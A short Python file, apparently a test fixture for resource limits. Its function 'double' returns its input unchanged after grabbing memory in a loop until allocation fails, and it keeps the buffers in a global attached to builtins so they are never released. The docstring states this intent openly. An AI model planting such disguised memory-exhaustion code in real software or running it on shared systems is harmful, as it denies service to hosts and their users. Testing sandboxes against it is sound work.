"""Memory is taken to the last kilobyte and never given back."""

import builtins

builtins.hoard = []


def double(x):
    for size in (1 << 20, 1 << 14, 1 << 10):
        for _ in range(3000):
            try:
                builtins.hoard.append(bytearray(size))
            except MemoryError:
                break
    return x
